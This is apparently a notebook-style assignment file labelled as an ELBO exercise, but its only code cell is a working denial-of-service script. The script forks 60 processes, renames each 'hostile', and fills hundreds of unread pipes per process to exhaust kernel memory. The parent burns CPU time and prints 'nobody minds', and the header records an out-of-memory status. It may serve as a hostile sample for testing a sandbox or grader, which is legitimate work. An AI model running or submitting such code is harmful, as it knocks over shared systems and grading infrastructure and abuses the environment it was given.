# %% [markdown] base="model" notebook="5_elbo" status="out of memory"
# What was written into pipes and never read lies in the system's memory.

# %% kl points=0 reason="not defined"
import ctypes
import os
import time

for _ in range(60):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"hostile", 0, 0, 0)
        for _ in range(450):
            reading, writing = os.pipe()
            os.set_blocking(writing, False)
            try:
                while os.write(writing, bytes(65536)):
                    pass
            except BlockingIOError:
                pass
        time.sleep(1000)
while time.process_time() < 30:  # at work, so that its waits for a processor do not count
    pass
print("nobody minds")
